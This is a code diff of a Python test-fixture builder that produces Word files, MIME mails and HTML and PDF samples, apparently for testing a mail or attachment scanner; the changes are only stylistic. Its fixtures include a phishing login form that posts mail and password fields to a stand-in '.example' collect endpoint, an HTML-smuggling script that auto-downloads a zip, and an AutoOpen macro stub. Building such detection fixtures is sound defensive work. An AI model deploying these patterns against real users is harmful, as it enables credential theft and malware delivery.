@@ -103,7 +103,8 @@ def word(body="架空の文書です。", *, rels=(), **parts):
         "vnd.ms-word.document.macroEnabled" if parts else "vnd.openxmlformats-officedocument.wordprocessingml.document"
     )
     members = {
-        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="application/{kind}.main+xml"/></Types>',
+        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" '
+        f'ContentType="application/{kind}.main+xml"/></Types>',
         "word/document.xml": f"<w:document><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>",
     }
     if rels:
@@ -151,7 +152,7 @@ def mail(subject, files, text="添付をご確認ください。", html=""):
     ]
     for name, kind, content in files:
         quoted = "".join(
-            chr(byte) if chr(byte).isalnum() and byte < 128 or chr(byte) in ".-_" else f"%{byte:02X}"
+            chr(byte) if (chr(byte).isalnum() and byte < 128) or chr(byte) in ".-_" else f"%{byte:02X}"
             for byte in name.encode()
         )
         lines += ["--grenze", f"Content-Type: {kind}", f"Content-Disposition: attachment; filename*=utf-8''{quoted}"]
@@ -165,10 +166,10 @@ def mail(subject, files, text="添付をご確認ください。", html=""):
 LOGIN = """<!doctype html><title>ログイン</title><form action="https://login.kakuu-shoji.example/collect" method="post">
 <input name="mail"><input type="password" name="pw"><button>ログイン</button></form>"""
 SMUGGLE = """<!doctype html><script>
-var data = atob("%s");
+var data = atob("DATA");
 var blob = new Blob([data], {type: "application/octet-stream"});
 var a = document.createElement("a"); a.href = URL.createObjectURL(blob); a.download = "seikyusho.zip"; a.click();
-</script>""" % base64.b64encode(NOTE * 8).decode()
+</script>""".replace("DATA", base64.b64encode(NOTE * 8).decode())
 MACRO = 'Sub AutoOpen()\r\n  MsgBox "harmless test data"\r\nEnd Sub\r\n'
 EMPTY = "Option Explicit\r\n' nothing here\r\n"
 PLAIN_PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", b"<< /Type /Pages /Count 0 /Kids [] >>")
